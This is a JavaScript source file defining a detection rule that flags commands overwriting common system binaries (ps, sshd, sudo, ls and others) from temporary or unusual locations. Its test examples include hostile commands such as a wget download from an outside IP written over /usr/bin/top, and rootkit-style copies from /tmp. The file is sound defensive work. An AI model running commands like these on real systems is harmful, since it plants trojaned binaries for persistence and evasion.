import { commandRule } from "../../command-rule.js";
import { parentOf, TEMPORARY, writesTo } from "../../shell/look.js";

const COMMON =
  /^(?:\/usr)?(?:\/local)?\/s?bin\/(?:ls|ps|netstat|ss|login|sshd|ssh|sudo|su|bash|sh|dash|top|htop|find|crontab|passwd|cat|curl|wget|kill|pkill|lsof|ip|ifconfig|who|w|last|systemctl|init|iptables|chattr|docker|cron|agetty)$/;

/** A program that everybody uses was replaced from an unusual place, by hand. */
export const commonFilesOverwritten = commandRule({
  id: "common-files-overwritten",
  alertType: "IoT_OverridingCommonFiles",
  name: "Potential overriding of common files",
  severity: "Medium",
  about: "A program that everybody uses was replaced from an unusual place, by hand.",
  tactics: ["Defense Evasion", "Persistence"],
  techniques: ["T1554", "T1036.005"],
  falsePositives: [
    "A factory image that is put together on the device; package managers do not copy from /tmp.",
  ],
  witness: [">", "cp", "mv", "ln", "install", "wget", "curl", "tee", "dd", "sed", "rsync", "scp"],
  sees: (reading, event) => {
    if (/\/(?:dpkg|rpm|apk|opkg|pacman)$/.test(parentOf(event))) return undefined;
    return writesTo(
      reading,
      COMMON,
      ({ name, argv, redirections }) =>
        /^(?:curl|wget|tee|dd)$/.test(name) ||
        redirections.some(({ target, operator }) => operator.includes(">") && COMMON.test(target)) ||
        argv
          .slice(1, -1)
          .some(
            (word) =>
              TEMPORARY.test(word) ||
              word.startsWith("./") ||
              word.startsWith("/dev/null") ||
              /^\/(?:home|root)\//.test(word),
          ),
    );
  },
  did: "replaced a common program",
  because: "a program that everybody uses is overwritten",
  fires: [
    "cp /tmp/ps /bin/ps",
    "mv ./x /usr/sbin/sshd",
    "sh -c cat a > /usr/bin/sudo",
    "wget http://203.0.113.9/top -O /usr/bin/top",
    "ln -sf /tmp/.k/ls /usr/local/bin/ls",
  ],
  silent: [
    "cp /bin/ls /tmp/ls",
    "install -m 755 build/app /usr/bin/app",
    "mv /tmp/tool /usr/local/bin/tool",
    "ln -sf /bin/busybox /bin/ls",
    "cp /usr/bin/python3 /usr/bin/python",
    { line: "ln -sf ./dash /bin/sh", parent: "/usr/bin/dpkg" },
  ],
});
